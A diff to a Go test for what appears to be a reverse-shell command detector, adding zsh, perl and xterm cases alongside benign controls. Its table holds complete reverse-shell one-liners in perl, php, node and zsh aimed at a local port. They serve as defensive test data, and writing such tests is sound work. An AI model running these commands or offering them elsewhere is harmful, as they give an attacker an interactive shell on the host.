@@ -486,7 +486,12 @@ func TestReverseShellCommand(t *testing.T) {
 		{[]string{"/usr/bin/perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4447,inet_aton("127.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");`}, true},
 		{[]string{"/usr/bin/php8.2", "-r", `$s=fsockopen("127.0.0.1",4447);proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);`}, true},
 		{[]string{"/usr/bin/node", "-e", `var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4447,"127.0.0.1",function(){var p=c.spawn("/bin/sh");s.pipe(p.stdin);p.stdout.pipe(s)})`}, true},
+		{[]string{"/usr/bin/zsh", "-c", "zmodload zsh/net/tcp && ztcp 127.0.0.1 4447 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"}, true},
+		{[]string{"/usr/bin/perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:4447");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`}, true},
+		{[]string{"/usr/bin/xterm", "-display", "127.0.0.1:1"}, true},
 		// a socket alone, or a shell alone, is no reverse shell
+		{[]string{"/usr/bin/xterm", "-display", ":0"}, false},
+		{[]string{"/usr/bin/zsh", "-c", "zmodload zsh/datetime; print $EPOCHSECONDS"}, false},
 		{[]string{"/usr/bin/python3", "-c", "import socket; print(socket.gethostname())"}, false},
 		{[]string{"/usr/bin/php8.2", "-r", `echo fsockopen("127.0.0.1", 5432) ? "up" : "down";`}, false},
 		{[]string{"/usr/bin/python3", "-c", "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])"}, false},
